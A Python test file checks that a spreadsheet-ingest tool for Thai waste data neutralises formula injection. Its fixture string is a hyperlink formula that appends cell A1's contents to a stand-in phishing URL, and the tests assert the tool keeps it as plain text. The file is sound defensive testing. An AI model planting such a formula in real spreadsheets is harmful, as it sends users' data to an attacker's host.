"""No workbook we write holds a live formula, whatever the clerk's file or the problem values held."""

from __future__ import annotations

import re
import zipfile
from io import BytesIO

import pytest
from openpyxl import Workbook, load_workbook

from data_sources.adapters import DATASETS
from data_sources.excel_feedback import PROBLEMS_SHEET, build_annotated
from data_sources.ingest import prepare
from data_sources.readers import Limits
from data_sources.template import build_template

HOSTILE = '=HYPERLINK("http://phish.example/?"&A1,"ดูรายละเอียด")'


def formula_cells(xlsx: bytes) -> list[str]:
    """Every <f> element in every sheet part: what Excel would calculate."""
    with zipfile.ZipFile(BytesIO(xlsx)) as package:
        return [
            match
            for name in package.namelist()
            if name.startswith("xl/worksheets/")
            for match in re.findall(r"<f[ >].*?</f>|<f/>", package.read(name).decode("utf-8"))
        ]


def test_a_csv_cell_starting_with_equals_comes_back_as_text() -> None:
    quoted = HOSTILE.replace('"', '""')
    content = ("วันที่,ชุมชน,ขยะที่จัดเก็บ (ตัน)\n" + f'01/10/2569,"{quoted}",x\n').encode()
    report = prepare(content, "waste.csv", "waste").report
    marked = build_annotated(content, "waste.csv", report.to_dict(), Limits())
    assert formula_cells(marked) == []
    book = load_workbook(BytesIO(marked))
    assert book.worksheets[0]["B2"].value == HOSTILE  # the clerk's characters, shown as typed
    assert HOSTILE in [c.value for row in book[PROBLEMS_SHEET].iter_rows() for c in row]


def test_a_formula_in_the_clerks_workbook_comes_back_as_text() -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["วันที่", "ชุมชน", "ขยะที่จัดเก็บ (ตัน)", "ขยะรีไซเคิล (ตัน)"])
    sheet.append(["01/10/2569", "เมืองทอง", "=1+1", HOSTILE])
    buffer = BytesIO()
    book.save(buffer)
    content = buffer.getvalue()
    assert formula_cells(content)  # the fixture really holds formulas
    report = prepare(content, "waste.xlsx", "waste").report
    marked = build_annotated(content, "waste.xlsx", report.to_dict(), Limits())
    assert formula_cells(marked) == []
    assert load_workbook(BytesIO(marked)).worksheets[0]["C2"].value == "=1+1"


@pytest.mark.parametrize("key", sorted(DATASETS))
def test_templates_hold_no_formula(key: str) -> None:
    assert formula_cells(build_template(key)) == []
